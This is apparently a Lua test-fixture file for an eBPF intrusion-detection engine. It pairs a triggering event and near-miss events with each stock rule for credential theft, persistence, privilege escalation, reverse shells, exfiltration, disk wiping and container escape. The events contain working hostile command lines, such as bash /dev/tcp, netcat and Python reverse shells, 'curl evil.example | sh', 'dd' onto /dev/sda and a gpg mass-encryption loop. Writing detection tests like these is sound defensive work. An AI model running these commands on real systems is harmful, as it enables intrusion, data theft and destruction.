-- One positive and at least one near-miss per stock rule and detection
-- (rules/), as inline events for ebpf_guard.testing. fires: the events (a
-- sequence for the stateful detections) after which the rule must have
-- fired; also: more such sequences (variants of the technique); misses:
-- lists of events after each of which it must not have.
-- stateful: the case's events must run on an engine of their own. Run by
-- spec/unit/stock_detections_spec.lua, which also checks that every stock
-- rule has a case here.
local W, RW, C, T = 1, 2, 64, 512 -- O_WRONLY, O_RDWR, O_CREAT, O_TRUNC

local function open(comm, filename, flags, extra)
  local e = { type = "open", comm = comm, filename = filename, open_flags = flags or 0, ret = 3 }
  for k, v in pairs(extra or {}) do e[k] = v end
  return e
end
local function write(comm, filename, extra) return open(comm, filename, W + C + T, extra) end
local function exec(filename, args, extra)
  local e = { type = "exec", filename = filename, args = args }
  for k, v in pairs(extra or {}) do e[k] = v end
  return e
end
local function with(e, extra)
  for k, v in pairs(extra) do e[k] = v end
  return e
end
local CTR = "4f2a1b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8"

return {
  -- credential access ------------------------------------------------------
  { "credential_file_read", fires = { open("cat", "/etc/shadow") },
    misses = { { open("sshd", "/etc/shadow") }, { open("cat", "/etc/shadow.bak") },
      { open("cat", "/etc/shadow", 0, { ret = -2 }) } } },
  { "ssh_private_key_read", fires = { open("python3", "/home/alice/.ssh/id_ed25519") },
    misses = { { open("ssh", "/home/alice/.ssh/id_ed25519") }, { open("cat", "/home/alice/.ssh/id_ed25519.pub") } } },
  { "ssh_host_key_read", fires = { open("tar", "/etc/ssh/ssh_host_ed25519_key") },
    misses = { { open("sshd", "/etc/ssh/ssh_host_ed25519_key") }, { open("tar", "/etc/ssh/ssh_host_ed25519_key.pub") } } },
  { "cloud_credentials_read", fires = { open("python3", "/root/.aws/credentials") },
    misses = { { open("aws", "/root/.aws/credentials") }, { open("python3", "/root/.aws/cli/cache/x.json") } } },
  { "kube_service_account_token_read",
    fires = { open("cat", "/run/secrets/kubernetes.io/serviceaccount/..2025_01_01_00_00_00.1/token") },
    misses = { { open("myapp", "/run/secrets/kubernetes.io/serviceaccount/..2025_01_01_00_00_00.1/token") },
      { open("cat", "/run/secrets/kubernetes.io/serviceaccount/namespace") } } },
  { "kubelet_credentials_read", fires = { open("cp", "/etc/kubernetes/admin.conf") },
    misses = { { open("kubelet", "/var/lib/kubelet/pki/kubelet-client-current.pem") }, { open("cp", "/etc/kubernetes/manifests/etcd.yaml") } } },
  { "browser_credential_store_read", fires = { open("python3", "/home/bob/.mozilla/firefox/ab12.default/logins.json") },
    misses = { { open("firefox-esr", "/home/bob/.mozilla/firefox/ab12.default/logins.json") },
      { open("python3", "/home/bob/.mozilla/firefox/ab12.default/prefs.js") } } },
  { "keyring_read", fires = { open("tar", "/home/bob/.local/share/keyrings/login.keyring") },
    misses = { { open("gnome-keyring-d", "/home/bob/.local/share/keyrings/login.keyring") },
      { open("tar", "/home/bob/.local/share/keyrings/user.keystore") } } },
  { "netrc_or_service_password_read", fires = { open("cat", "/home/bob/.git-credentials") },
    misses = { { open("git", "/home/bob/.git-credentials") }, { open("cat", "/home/bob/.gitconfig") } } },
  { "shell_history_read", fires = { open("grep", "/root/.bash_history") },
    misses = { { open("bash", "/root/.bash_history") }, { open("grep", "/root/.bash_history", W + 1024) } } },
  { "proc_memory_read", fires = { open("python3", "/proc/812/mem", 0, { tgid = 900 }) },
    misses = { { open("python3", "/proc/900/mem", 0, { tgid = 900, requested = "/proc/self/mem" }) }, { open("gdb", "/proc/812/mem", 0, { tgid = 900 }) },
      { open("python3", "/proc/812/maps", 0, { tgid = 900 }) } } },
  { "credential_dumper_exec", fires = { exec("/tmp/mimipenguin.sh", { "bash", "/tmp/mimipenguin.sh" }, { comm = "bash" }) },
    misses = { { exec("/usr/bin/bash", { "bash", "/tmp/penguin.sh" }) } } },

  -- persistence ------------------------------------------------------------
  { "cron_job_written", fires = { write("bash", "/etc/cron.d/update") },
    misses = { { write("crontab", "/var/spool/cron/crontabs/root") }, { open("bash", "/etc/cron.d/update") },
      -- an at job is at_job_written's, and at's own writes are no alert
      { write("python3", "/var/spool/cron/atjobs/a0001") }, { write("at", "/var/spool/cron/atspool/x") } } },
  { "at_job_written", fires = { write("python3", "/var/spool/cron/atjobs/a0001") },
    misses = { { write("at", "/var/spool/cron/atjobs/a0001") } } },
  { "systemd_unit_written", fires = { write("cp", "/etc/systemd/system/backdoor.service") },
    misses = { { write("cp", "/etc/systemd/system/backdoor.service", { parent = { comm = "dpkg" } }) },
      { write("systemctl", "/etc/systemd/system/x.service") }, { open("cat", "/etc/systemd/system/x.service") } } },
  { "user_systemd_unit_written", fires = { write("python3", "/home/bob/.config/systemd/user/agent.service") },
    misses = { { write("python3", "/home/bob/.config/systemd/user.conf") } } },
  { "system_shell_profile_written", fires = { write("bash", "/etc/profile.d/zz.sh") },
    misses = { { write("bash", "/etc/profile.d/zz.sh", { parent = { comm = "apt-get" } }) }, { open("bash", "/etc/profile.d/zz.sh") } } },
  { "user_shell_profile_written", fires = { open("tee", "/home/bob/.bashrc", W + 1024) },
    misses = { { open("vim", "/home/bob/.bashrc", W + C + T) }, { open("tee", "/home/bob/.bashrc.bak", W) } } },
  { "authorized_keys_written", fires = { open("sh", "/root/.ssh/authorized_keys", W + 1024) },
    misses = { { write("cloud-init", "/root/.ssh/authorized_keys") }, { open("sh", "/root/.ssh/authorized_keys") } } },
  { "ld_so_preload_written", fires = { write("sh", "/etc/ld.so.preload") },
    misses = { { open("ldd", "/etc/ld.so.preload") } } },
  { "sudoers_written", fires = { open("sh", "/etc/sudoers.d/99-x", W + C) },
    misses = { { write("visudo", "/etc/sudoers.tmp") }, { open("sudo", "/etc/sudoers") } } },
  { "account_database_written", fires = { open("python3", "/etc/passwd", W + 1024) },
    misses = { { write("useradd", "/etc/passwd+") }, { open("python3", "/etc/passwd") } } },
  { "account_created", fires = { exec("/usr/sbin/useradd", { "useradd", "-m", "svc" }) },
    misses = { { exec("/usr/sbin/useradd", { "useradd", "-r", "_svc" }, { parent = { comm = "dpkg" } }) },
      { exec("/usr/sbin/usermod", { "usermod", "-s", "/bin/zsh", "bob" }) } } },
  { "init_script_written", fires = { write("sh", "/etc/rc.local") },
    misses = { { write("sh", "/etc/rc.local", { parent = { comm = "dpkg" } }) } } },
  { "pam_configuration_written", fires = { write("cp", "/lib/x86_64-linux-gnu/security/pam_unix.so") },
    misses = { { write("pam-auth-update", "/etc/pam.d/common-auth") }, { open("cp", "/etc/pam.d/sshd") } } },
  { "sshd_config_written", fires = { open("sed", "/etc/ssh/sshd_config", W + T) },
    misses = { { open("sshd", "/etc/ssh/sshd_config") }, { write("sed", "/etc/ssh/ssh_config") } } },
  { "kernel_module_autoload_written", fires = { write("sh", "/etc/modules-load.d/x.conf") },
    misses = { { write("sh", "/etc/modules-load.d/x.conf", { parent = { comm = "apt" } }) } } },
  { "udev_rule_written", fires = { write("sh", "/etc/udev/rules.d/75-x.rules") },
    misses = { { write("systemd-udevd", "/run/udev/rules.d/75-x.rules") } } },
  { "xdg_autostart_written", fires = { write("python3", "/home/bob/.config/autostart/update.desktop") },
    misses = { { write("python3", "/home/bob/.config/autostartx") } } },
  { "persistence_file_renamed_into_place",
    fires = { { type = "rename", comm = "mv", call = "rename", filename = "/tmp/x", new_path = "/etc/cron.d/x", ret = 0 } },
    misses = { { { type = "rename", comm = "mv", call = "rename", filename = "/tmp/x", new_path = "/etc/cron.d/x", ret = -13 } },
      { { type = "rename", comm = "crontab", call = "rename", filename = "/etc/crontab.tmp", new_path = "/etc/crontab", ret = 0 } } } },
  { "persistence_link_created",
    fires = { { type = "link", comm = "ln", call = "symlink", filename = "/etc/systemd/system/multi-user.target.wants/x.service",
      link_target = "/tmp/x.service", ret = 0 } },
    misses = { { { type = "link", comm = "systemctl", call = "symlink", filename = "/etc/systemd/system/multi-user.target.wants/x.service",
      link_target = "/lib/systemd/system/x.service", ret = 0 } } } },

  -- privilege escalation ---------------------------------------------------
  { "setuid_bit_set", fires = { { type = "chmod", comm = "chmod", call = "fchmodat", filename = "/tmp/sh", mode = 2541, mode_setuid = true, ret = 0 } },
    misses = { { { type = "chmod", comm = "chmod", call = "fchmodat", filename = "/tmp/sh", mode = 493, ret = 0 } },
      { { type = "chmod", comm = "dpkg", call = "fchmodat", filename = "/usr/bin/passwd", mode = 2541, mode_setuid = true, ret = 0 } } } },
  { "setuid_program_from_writable_dir", fires = { exec("/tmp/.x/sh", { "sh", "-p" }, { setuid = true }) },
    misses = { { exec("/usr/bin/passwd", { "passwd" }, { setuid = true }) }, { exec("/tmp/.x/sh", { "sh" }) } } },
  { "exec_with_empty_argv", fires = { exec("/usr/bin/pkexec", {}) },
    misses = { { exec("/usr/bin/pkexec", { "pkexec" }) } } },
  { "root_from_user_session_without_sudo",
    fires = { { type = "setid", comm = "exploit", call = "setuid", id_real = -1, id_effective = 0, id_saved = -1, uid = 0, loginuid = 1000, ret = 0,
      ancestors = { { comm = "bash" }, { comm = "sshd" } } } },
    misses = { { { type = "setid", comm = "exploit", call = "setuid", id_real = -1, id_effective = 0, id_saved = -1, uid = 0, loginuid = 1000, ret = 0,
      ancestors = { { comm = "bash" }, { comm = "sudo" } } } },
      { { type = "setid", comm = "cron", call = "setuid", id_real = -1, id_effective = 0, id_saved = -1, uid = 0, loginuid = 1000, ret = 0 } } } },
  { "ptrace_attach_other_process", fires = { { type = "ptrace", comm = "inject", request = "attach", target_pid = 812, ret = 0 } },
    misses = { { { type = "ptrace", comm = "gdb", request = "attach", target_pid = 812, ret = 0 } },
      { { type = "ptrace", comm = "inject", request = "traceme", target_pid = 0, ret = 0 } } } },
  { "proc_memory_write", fires = { open("python3", "/proc/812/mem", RW) },
    misses = { { open("gdb", "/proc/812/mem", RW) } } },
  { "kernel_module_loaded", fires = { { type = "module", comm = "loader", call = "finit_module", filename = "/root/rk.ko", ret = 0 } },
    misses = { { { type = "module", comm = "modprobe", call = "finit_module", filename = "/lib/modules/6.1.0/kernel/x.ko", ret = 0 } } } },
  { "kernel_module_from_writable_dir", fires = { { type = "module", comm = "insmod", call = "finit_module", filename = "/tmp/rk.ko", ret = -1 } },
    misses = { { { type = "module", comm = "insmod", call = "finit_module", filename = "/root/rk.ko", ret = 0 } } } },
  { "kernel_module_unloaded", fires = { { type = "module", comm = "sh", call = "delete_module", module_name = "apparmor", ret = 0 } },
    misses = { { { type = "module", comm = "rmmod", call = "delete_module", module_name = "x", ret = 0 } } } },
  { "bpf_tracing_program_loaded", fires = { { type = "bpf", comm = "rootkit", bpf_cmd = "prog_load", prog_type = "kprobe", ret = 5 } },
    misses = { { { type = "bpf", comm = "systemd", bpf_cmd = "prog_load", prog_type = "kprobe", ret = 5 } },
      { { type = "bpf", comm = "rootkit", bpf_cmd = "prog_load", prog_type = "cgroup_skb", ret = 5 } } } },
  { "capabilities_raised_by_capset", fires = { { type = "setid", comm = "x", call = "capset", cap_effective = "sys_admin", uid = 1000, ret = 0 } },
    misses = { { { type = "setid", comm = "x", call = "capset", cap_effective = "net_raw", uid = 1000, ret = 0 } } } },

  -- defence evasion --------------------------------------------------------
  { "system_log_deleted", fires = { { type = "unlink", comm = "rm", call = "unlinkat", filename = "/var/log/auth.log", ret = 0 } },
    misses = { { { type = "unlink", comm = "rm", call = "unlinkat", filename = "/var/log/auth.log.4.gz", ret = 0 } },
      { { type = "unlink", comm = "logrotate", call = "unlinkat", filename = "/var/log/auth.log", ret = 0 } } } },
  { "system_log_truncated", fires = { open("sh", "/var/log/wtmp", W + T) },
    misses = { { open("sh", "/var/log/wtmp", W + 1024) }, { open("logrotate", "/var/log/wtmp", W + T) } } },
  { "shell_history_deleted", fires = { { type = "link", comm = "ln", call = "symlink", filename = "/root/.bash_history", link_target = "/dev/null", ret = 0 } },
    misses = { { { type = "unlink", comm = "rm", call = "unlink", filename = "/root/.bash_history.old", ret = 0 } } } },
  { "shell_history_truncated", fires = { open("truncate", "/root/.bash_history", W + T) },
    misses = { { open("bash", "/root/.bash_history", W + T) } } },
  { "shell_history_disabled", fires = { exec("/bin/bash", { "bash", "-c", "export HISTFILE=/dev/null; id" }) },
    misses = { { exec("/bin/bash", { "bash", "-c", "echo $HISTFILE" }) } } },
  { "timestomp_system_file", fires = { exec("/usr/bin/touch", { "touch", "-r", "/bin/ls", "/usr/bin/evil" }) },
    misses = { { exec("/usr/bin/touch", { "touch", "-r", "configure.ac", "aclocal.m4" }) }, { exec("/usr/bin/touch", { "touch", "/usr/bin/x" }) } } },
  { "masquerade_kernel_thread", fires = { exec("/tmp/.k", { "[kworker/0:1]" }) },
    misses = { { exec("/usr/bin/kworker-stats", { "kworker-stats" }) }, { exec("/usr/bin/ps", { "ps", "[kworker/0:1]" }) } } },
  { "renamed_shell_exec", fires = { exec("/tmp/httpd", { "httpd" }, { exe = "/usr/bin/bash" }) },
    misses = { { exec("/bin/sh", { "sh" }, { exe = "/usr/bin/dash" }) }, { exec("/usr/bin/bash", { "-bash" }, { comm = "bash" }) } } },
  { "system_name_from_writable_dir", fires = { exec("/dev/shm/sshd", { "sshd" }) },
    misses = { { exec("/dev/shm/build-tool", { "build-tool" }) } } },
  { "hidden_executable_run", fires = { exec("/var/lib/.cache2/agent", { "agent" }) },
    misses = { { exec("/home/bob/.cargo/bin/rg", { "rg" }) }, { exec("/usr/bin/rg", { "rg" }) } } },
  { "security_tool_disabled", fires = { exec("/usr/bin/systemctl", { "systemctl", "stop", "auditd" }) },
    misses = { { exec("/usr/bin/systemctl", { "systemctl", "restart", "auditd" }) }, { exec("/usr/bin/systemctl", { "systemctl", "stop", "nginx" }) } } },
  { "firewall_flushed", fires = { exec("/usr/sbin/iptables", { "iptables", "-F" }) },
    misses = { { exec("/usr/sbin/iptables", { "iptables", "-L" }) }, { exec("/usr/sbin/iptables", { "iptables", "-F" }, { parent = { comm = "dockerd" } }) } } },
  { "immutable_attribute_set", fires = { exec("/usr/bin/chattr", { "chattr", "+i", "/etc/cron.d/x" }) },
    misses = { { exec("/usr/bin/chattr", { "chattr", "-i", "/etc/cron.d/x" }) } } },
  { "self_deleting_program", stateful = true, fires = { { type = "unlink", comm = "dropper", call = "unlink", filename = "/opt/x/dropper", exe = "/opt/x/dropper", ret = 0 } },
    misses = { { { type = "unlink", comm = "dropper", call = "unlink", filename = "/opt/x/log", exe = "/opt/x/dropper", ret = 0 } } } },
  -- execution --------------------------------------------------------------
  { "exec_from_world_writable_dir", fires = { exec("/tmp/payload", { "payload" }) },
    misses = { { exec("/tmp/conftest", { "conftest" }, { parent = { comm = "make" } }) }, { exec("/usr/bin/id", { "id" }) } } },
  { "shell_spawned_by_network_service", fires = { exec("/bin/sh", { "sh", "-c", "id" }, { parent = { comm = "nginx" } }) },
    misses = { { exec("/bin/sh", { "sh", "-c", "id" }, { parent = { comm = "sshd" } }) } } },
  { "shell_with_network_service_ancestor",
    fires = { exec("/usr/bin/id", { "id" }, { parent = { comm = "sh" }, ancestors = { { comm = "sh" }, { comm = "php-fpm8.2" } } }) },
    misses = { { exec("/usr/bin/id", { "id" }, { parent = { comm = "sh" }, ancestors = { { comm = "sh" }, { comm = "sshd" } } }) } } },
  { "reverse_shell_dev_tcp", fires = { exec("/bin/bash", { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }) },
    misses = { { exec("/bin/bash", { "bash", "-c", "echo /dev/tcp is a bash feature" }) } } },
  { "netcat_exec_flag", fires = { exec("/usr/bin/nc", { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" }) },
    misses = { { exec("/usr/bin/nc", { "nc", "-zv", "10.0.0.1", "22" }) } } },
  { "socat_shell", fires = { exec("/usr/bin/socat", { "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty,stderr" }) },
    misses = { { exec("/usr/bin/socat", { "socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80" }) } } },
  { "scripting_reverse_shell",
    fires = { exec("/usr/bin/python3", { "python3", "-c",
      "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])" }) },
    misses = { { exec("/usr/bin/python3", { "python3", "-c", "import socket; print(socket.gethostname())" }) } } },
  { "fifo_netcat_pipeline", fires = { exec("/bin/sh", { "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f" }) },
    misses = { { exec("/bin/sh", { "sh", "-c", "mkfifo /tmp/f; cat /tmp/f | gzip > out.gz" }) } } },
  { "stdio_redirected_to_socket",
    fires = { { type = "dup", comm = "python3", call = "dup2", old_fd = 3, new_fd = 0, is_socket = true, dest_ip = "10.0.0.1", dest_port = 4444, ret = 0 } },
    misses = { { { type = "dup", comm = "python3", call = "dup2", old_fd = 3, new_fd = 0, is_socket = false, ret = 0 } },
      { { type = "dup", comm = "systemd", call = "dup2", old_fd = 3, new_fd = 0, is_socket = true, dest_ip = "10.0.0.1", dest_port = 4444, ret = 0 } } } },
  { "download_piped_to_shell", fires = { exec("/bin/sh", { "sh", "-c", "curl -fsSL http://evil.example/x.sh | sh" }) },
    misses = { { exec("/bin/sh", { "sh", "-c", "curl -fsSL http://example.org/x.json | jq ." }) } } },
  { "decoded_payload_piped_to_shell", fires = { exec("/bin/bash", { "bash", "-c", "echo aWQK | base64 -d | bash" }) },
    misses = { { exec("/bin/bash", { "bash", "-c", "echo aWQK | base64 -d > x.txt" }) } } },
  { "interpreter_runs_from_writable_dir", fires = { exec("/usr/bin/python3", { "python3", "/dev/shm/x.py" }) },
    misses = { { exec("/usr/bin/python3", { "python3", "/opt/x.py" }) }, { exec("/usr/bin/bash", { "bash", "/tmp/t.sh" }, { parent = { comm = "make" } }) },
      -- a command string naming a program in /tmp is no script stored there
      { exec("/usr/bin/sh", { "sh", "-c", "/tmp/x --run" }) }, { exec("/usr/bin/perl", { "perl", "-e", "/tmp/x" }) } } },
  { "memfd_created_executable_by_interpreter", fires = { { type = "memfd", comm = "python3", filename = "x", flags = "cloexec", ret = 3 } },
    misses = { { { type = "memfd", comm = "python3", filename = "x", flags = "cloexec|noexec_seal", ret = 3 } },
      { { type = "memfd", comm = "pulseaudio", filename = "x", flags = "cloexec", ret = 3 } } } },
  { "compiler_run_by_service_user", fires = { exec("/usr/bin/gcc", { "gcc", "x.c" }, { uid = 33, loginuid = -1 }) },
    misses = { { exec("/usr/bin/gcc", { "gcc", "x.c" }, { uid = 1000, loginuid = 1000 }) }, { exec("/usr/bin/gcc", { "gcc", "x.c" }, { uid = 999, loginuid = -1, parent = { comm = "make" } }) } } },
  { "cryptominer_arguments", fires = { exec("/opt/.x/sysupdate", { "sysupdate", "-o", "stratum+tcp://pool.example:3333", "-u", "x" }) },
    misses = { { exec("/usr/bin/curl", { "curl", "https://example.org/stratum" }) } } },
  { "netcat_like_exec", fires = { exec("/usr/bin/ncat", { "ncat", "-l", "8080" }) },
    misses = { { exec("/usr/bin/rsync", { "rsync" }) } } },

  -- discovery ----------------------------------------------------------------
  { "setuid_binary_search", fires = { exec("/usr/bin/find", { "find", "/", "-perm", "-4000", "-type", "f" }) },
    misses = { { exec("/usr/bin/find", { "find", "/", "-perm", "-0644" }) } } },
  { "capability_search", fires = { exec("/usr/sbin/getcap", { "getcap", "-r", "/" }) },
    misses = { { exec("/usr/sbin/getcap", { "getcap", "/usr/bin/ping" }) } } },
  { "privilege_escalation_recon_tool", fires = { exec("/bin/sh", { "sh", "/tmp/linpeas.sh" }) },
    misses = { { exec("/bin/sh", { "sh", "/tmp/install.sh" }) } } },
  { "network_scanner_exec", fires = { exec("/usr/bin/nmap", { "nmap", "-sS", "10.0.0.0/24" }) },
    misses = { { exec("/usr/bin/ping", { "ping", "10.0.0.1" }) } } },
  { "cloud_metadata_access", fires = { { type = "connect", comm = "python3", dest_ip = "169.254.169.254", dest_port = 80, ret = 0 } },
    misses = { { { type = "connect", comm = "cloud-init", dest_ip = "169.254.169.254", dest_port = 80, ret = 0 } } } },
  { "sudo_privileges_listed", fires = { exec("/usr/bin/sudo", { "sudo", "-l" }, { tty = "" }) },
    misses = { { exec("/usr/bin/sudo", { "sudo", "-l" }, { tty = "pts/1" }) } } },
  { "container_runtime_probe", fires = { open("sh", "/run/docker.sock", 0, { container_id = CTR }) },
    misses = { { open("sh", "/run/docker.sock", 0) } } },

  -- command and control -----------------------------------------------------
  { "shell_outbound_connect", fires = { { type = "connect", comm = "bash", dest_ip = "10.0.0.1", dest_port = 4444, ret = -115 } },
    misses = { { { type = "connect", comm = "bash", dest_ip = "127.0.0.1", dest_port = 4444, ret = 0 } },
      { { type = "connect", comm = "sshd", dest_ip = "10.0.0.1", dest_port = 22, ret = 0 } } } },
  { "writable_dir_program_connect", fires = { { type = "connect", comm = "x", exe = "/dev/shm/x", dest_ip = "203.0.113.9", dest_port = 443, ret = 0 } },
    misses = { { { type = "connect", comm = "x", exe = "/opt/x", dest_ip = "203.0.113.9", dest_port = 443, ret = 0 } } } },
  { "shell_listening", fires = { { type = "listen", comm = "bash", call = "listen", local_ip = "0.0.0.0", local_port = 4444, backlog = 1, sock_type = "stream", ret = 0 } },
    misses = { { { type = "listen", comm = "nginx", call = "listen", local_ip = "0.0.0.0", local_port = 80, backlog = 511, sock_type = "stream", ret = 0 } } } },
  { "shell_accepted_connection", fires = { { type = "accept", comm = "sh", call = "accept", dest_ip = "10.0.0.1", dest_port = 5555, local_port = 4444, ret = 4 } },
    misses = { { { type = "accept", comm = "sshd", call = "accept", dest_ip = "10.0.0.1", dest_port = 5555, local_port = 22, ret = 4 } } } },
  { "tunnel_tool_exec", fires = { exec("/tmp/chisel", { "chisel", "client", "10.0.0.1:8000", "R:socks" }) },
    misses = { { exec("/usr/bin/ssh", { "ssh", "host" }) } } },
  { "ssh_reverse_tunnel", fires = { exec("/usr/bin/ssh", { "ssh", "-N", "-R", "2222:localhost:22", "user@203.0.113.9" }) },
    misses = { { exec("/usr/bin/ssh", { "ssh", "-L", "8080:localhost:80", "user@host" }) } } },
  { "tor_connection", fires = { { type = "connect", comm = "curl", dest_ip = "127.0.0.1", dest_port = 9050, ret = 0 } },
    misses = { { { type = "connect", comm = "tor", dest_ip = "198.51.100.3", dest_port = 9001, ret = 0 } } } },
  { "download_from_ip_address", fires = { exec("/usr/bin/wget", { "wget", "http://203.0.113.9/x" }) },
    misses = { { exec("/usr/bin/wget", { "wget", "http://deb.debian.org/x" }) }, { exec("/usr/bin/curl", { "curl", "http://127.0.0.1:8080/" }) } } },
  { "download_to_writable_dir", fires = { exec("/usr/bin/curl", { "curl", "-o", "/tmp/x", "https://example.org/x" }) },
    misses = { { exec("/usr/bin/curl", { "curl", "-o", "out.bin", "https://example.org/x" }) } } },
  { "remote_file_copy_tool_from_service",
    fires = { exec("/usr/bin/scp", { "scp", "/etc/passwd", "x@203.0.113.9:" }, { parent = { comm = "sh" }, ancestors = { { comm = "sh" }, { comm = "apache2" } } }) },
    misses = { { exec("/usr/bin/scp", { "scp", "a", "b:" }, { parent = { comm = "bash" }, ancestors = { { comm = "bash" }, { comm = "sshd" } } }) } } },

  -- impact -------------------------------------------------------------------
  { "disk_wiped", fires = { exec("/usr/bin/dd", { "dd", "if=/dev/zero", "of=/dev/sda", "bs=1M" }) },
    misses = { { exec("/usr/bin/dd", { "dd", "if=/dev/zero", "of=/tmp/img", "bs=1M" }) } } },
  { "boot_files_written", fires = { write("python3", "/boot/grub/grub.cfg") },
    misses = { { write("grub-mkconfig", "/boot/grub/grub.cfg.new") }, { open("python3", "/boot/grub/grub.cfg") } } },
  { "backups_or_snapshots_deleted", fires = { exec("/usr/bin/rm", { "rm", "-rf", "/var/backups/" }) },
    misses = { { exec("/usr/bin/rm", { "rm", "-rf", "/var/backups/old.tar" }) } } },
  { "mass_file_encryption_tool", fires = { exec("/bin/sh", { "sh", "-c", "find /home -type f -exec gpg --batch -c --passphrase x {} \\;" }) },
    misses = { { exec("/bin/sh", { "sh", "-c", "find /home -type f -exec ls {} \\;" }) } } },

  -- container escape ---------------------------------------------------------
  { "cgroup_release_agent_written", fires = { write("sh", "/tmp/cgrp/release_agent", { container_id = CTR }) },
    misses = { { open("sh", "/tmp/cgrp/release_agent") } } },
  { "core_pattern_written", fires = { open("sh", "/proc/sys/kernel/core_pattern", W + T) },
    misses = { { open("systemd-sysctl", "/proc/sys/kernel/core_pattern", W + T) } } },
  { "host_proc_root_access", fires = { exec("/usr/bin/nsenter", { "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh" }) },
    misses = { { exec("/usr/bin/nsenter", { "nsenter", "-t", "812", "-n", "ip", "a" }) } } },
  { "namespace_entered_from_container", fires = { { type = "namespace", comm = "sh", call = "setns", ns_flags = "newns", container_id = CTR, ret = 0 } },
    misses = { { { type = "namespace", comm = "runc", call = "setns", ns_flags = "newns", container_id = CTR, ret = 0 } },
      { { type = "namespace", comm = "sh", call = "setns", ns_flags = "newns", ret = 0 } } } },
  { "mount_from_container", fires = { { type = "mount", comm = "mount", call = "mount", filename = "/mnt", source = "tmpfs", fstype = "tmpfs", container_id = CTR, ret = 0 } },
    misses = { { { type = "mount", comm = "mount", call = "mount", filename = "/mnt", source = "tmpfs", fstype = "tmpfs", ret = 0 } } } },
  { "host_device_mounted", fires = { { type = "mount", comm = "mount", call = "mount", filename = "/mnt", source = "/dev/sda1", fstype = "ext4", container_id = CTR, ret = 0 } },
    misses = { { { type = "mount", comm = "mount", call = "mount", filename = "/mnt", source = "/dev/sda1", fstype = "ext4", ret = 0 } } } },
  { "kernel_module_from_container", fires = { { type = "module", comm = "insmod", call = "finit_module", filename = "/x.ko", container_id = CTR, ret = 0 } },
    misses = { { { type = "module", comm = "modprobe", call = "finit_module", filename = "/lib/modules/x.ko", ret = 0 } } } },
  { "runtime_client_in_container", fires = { exec("/usr/bin/docker", { "docker", "run", "--privileged", "x" }, { container_id = CTR }) },
    misses = { { exec("/usr/bin/docker", { "docker", "ps" }) } } },
  { "debugfs_on_disk", fires = { exec("/sbin/debugfs", { "debugfs", "-w", "/dev/sda1" }) },
    misses = { { exec("/sbin/debugfs", { "debugfs", "image.img" }) } } },

  -- stateful detections (rules/95-stateful.lua) ------------------------------
  { "download_then_execute", stateful = true,
    fires = { write("curl", "/tmp/x", { tgid = 10 }), exec("/tmp/x", { "/tmp/x" }, { tgid = 11, parent = { comm = "bash" } }) },
    misses = { { write("cp", "/tmp/x", { tgid = 10 }), exec("/tmp/x", { "/tmp/x" }, { tgid = 11 }) },
      { write("curl", "/tmp/x", { tgid = 10 }), exec("/tmp/y", { "/tmp/y" }, { tgid = 11 }) },
      -- an interpreter's file counts only after it connected out (pip, a
      -- build script writing a helper it then runs)
      { write("python3", "/tmp/x", { tgid = 10 }), exec("/tmp/x", { "/tmp/x" }, { tgid = 11 }) },
      { { type = "connect", comm = "python3", tgid = 10, dest_ip = "127.0.0.1", dest_port = 8000, ret = 0 },
        write("python3", "/tmp/x", { tgid = 10 }), exec("/tmp/x", { "/tmp/x" }, { tgid = 11 }) },
      -- a connection with no address (not an outbound one) counts no more
      { { type = "connect", comm = "python3", tgid = 10, dest_ip = "", dest_port = 0, ret = 0 },
        write("python3", "/tmp/x", { tgid = 10 }), exec("/tmp/x", { "/tmp/x" }, { tgid = 11 }) } },
    -- an interpreter that connected out first
    also = { { { type = "connect", comm = "python3", tgid = 10, dest_ip = "93.184.216.34", dest_port = 443, ret = 0 },
      write("python3", "/tmp/x", { tgid = 10 }), exec("/tmp/x", { "/tmp/x" }, { tgid = 11, parent = { comm = "bash" } }) } } },
  { "drop_chmod_execute", stateful = true,
    fires = { write("python3", "/dev/shm/x", { tgid = 10 }),
      { type = "chmod", comm = "chmod", tgid = 12, call = "fchmodat", filename = "/dev/shm/x", mode = 493, ret = 0 },
      exec("/dev/shm/x", { "/dev/shm/x" }, { tgid = 13 }) },
    misses = { { write("python3", "/dev/shm/x", { tgid = 10 }), exec("/dev/shm/x", { "/dev/shm/x" }, { tgid = 13 }) },
      { { type = "chmod", comm = "chmod", tgid = 12, call = "fchmodat", filename = "/dev/shm/x", mode = 493, ret = 0 },
        exec("/dev/shm/x", { "/dev/shm/x" }, { tgid = 13 }) } } },
  { "tmp_exec_then_deleted", stateful = true,
    fires = { exec("/tmp/s1", { "/tmp/s1" }, { tgid = 20 }),
      { type = "unlink", comm = "bash", tgid = 19, call = "unlink", filename = "/tmp/s1", ret = 0 } },
    misses = { { exec("/tmp/s1", { "/tmp/s1" }, { tgid = 20 }),
      { type = "unlink", comm = "s1", tgid = 20, call = "unlink", filename = "/tmp/s1", ret = 0 } },
      { exec("/usr/bin/s1", { "s1" }, { tgid = 20 }),
        { type = "unlink", comm = "bash", tgid = 19, call = "unlink", filename = "/usr/bin/s1", ret = 0 } },
      -- deleted after it exited: cp /bin/true /tmp/s1 && /tmp/s1 && rm /tmp/s1
      { exec("/tmp/s1", { "/tmp/s1" }, { tgid = 20 }), { type = "exit", pid = 20, tgid = 20 },
        { type = "unlink", comm = "rm", tgid = 21, call = "unlink", filename = "/tmp/s1", ret = 0 } } } },
  { "connect_fanout_scan", stateful = true,
    fires = (function()
      local evs = {}
      for p = 1, 16 do evs[p] = { type = "connect", comm = "x", tgid = 30, dest_ip = "10.0.0.5", dest_port = 1000 + p, ret = -111, timestamp = 1735689600 + p * 0.1 } end
      return evs
    end)(),
    misses = { (function()
      local evs = {}
      for p = 1, 15 do evs[p] = { type = "connect", comm = "x", tgid = 30, dest_ip = "10.0.0.5", dest_port = 1000 + p, ret = -111, timestamp = 1735689600 + p * 0.1 } end
      return evs
    end)(), (function()
      local evs = {}
